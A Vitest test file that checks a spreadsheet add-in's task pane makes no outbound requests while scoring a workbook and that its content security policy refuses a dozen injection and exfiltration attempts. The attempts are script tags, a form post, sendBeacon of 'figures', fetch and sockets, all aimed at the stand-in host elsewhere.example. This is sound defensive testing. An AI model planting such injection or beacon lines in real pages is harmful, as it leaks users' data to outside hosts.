import { afterAll, describe, expect, it } from "vitest";
import { sampleBook } from "./support/books";
import { startPanes } from "./support/pane-page";

const panes = await startPanes();
afterAll(() => panes.close());

const OFFICE_LIBRARY = "https://appsforoffice.microsoft.com/lib/1/hosted/office.js";

describe.skipIf(panes.absent)("nothing leaves the workbook", () => {
  it("is asked for while a book is scored", async () => {
    const pane = await panes.open(await sampleBook());
    expect(pane.requests).toContain(OFFICE_LIBRARY);
    await pane.bookRead();
    pane.requests.length = 0;
    await pane.score();
    expect(pane.requests).toEqual([]);
    expect(pane.errors).toEqual([]);
    await pane.close();
  });

  it("gets past the page's own policy", async () => {
    const pane = await panes.open(await sampleBook());
    const { page } = pane;
    expect(pane.foreign).toEqual([OFFICE_LIBRARY]);
    const refused = await page.evaluate(async () => {
      const refusals = new Set<string>();
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => {
        refusals.add(`${effectiveDirective} ${blockedURI}`);
      });
      const elsewhere = "https://elsewhere.example/";
      const add = (tag: string, attributes: Record<string, string>): void => {
        document.body.append(Object.assign(document.createElement(tag), attributes));
      };
      add("script", { src: `${elsewhere}script.js` });
      add("script", { textContent: "window.wasRun = true" });
      add("img", { src: `${elsewhere}picture.png` });
      add("link", { rel: "stylesheet", href: `${elsewhere}style.css` });
      add("iframe", { src: `${elsewhere}frame.html` });
      add("object", { data: `${elsewhere}object.svg` });
      add("video", { src: `${elsewhere}film.mp4` });
      const form = document.createElement("form");
      document.body.append(Object.assign(form, { action: `${elsewhere}form`, method: "post" }));
      form.submit();
      navigator.sendBeacon(`${elsewhere}beacon`, "figures");
      const call = fetch(`${elsewhere}fetch`).catch(() => undefined);
      try {
        new WebSocket("wss://elsewhere.example/socket");
      } catch {
        // Refused as well.
      }
      new EventSource(`${elsewhere}events`);
      await call;
      for (let wait = 0; refusals.size < 12 && wait < 100; wait += 1) {
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
      return [...refusals].sort();
    });
    expect(refused).toEqual([
      "connect-src https://elsewhere.example/beacon",
      "connect-src https://elsewhere.example/events",
      "connect-src https://elsewhere.example/fetch",
      "connect-src wss://elsewhere.example/socket",
      "form-action https://elsewhere.example/form",
      "frame-src https://elsewhere.example",
      "img-src https://elsewhere.example/picture.png",
      "media-src https://elsewhere.example/film.mp4",
      "object-src https://elsewhere.example",
      "script-src-elem https://elsewhere.example/script.js",
      "script-src-elem inline",
      "style-src-elem https://elsewhere.example/style.css",
    ]);
    expect(await page.evaluate(() => "wasRun" in window)).toBe(false);
    // The other way round: a request that the policy lets through is seen.
    expect(pane.foreign).toEqual([OFFICE_LIBRARY]);
    const cdn = "https://appsforoffice.microsoft.com/lib/1/hosted/excel.js";
    await page.evaluate((url) => fetch(url).catch(() => undefined), cdn);
    expect(pane.foreign).toEqual([OFFICE_LIBRARY, cdn]);
    await pane.close();
  });
});
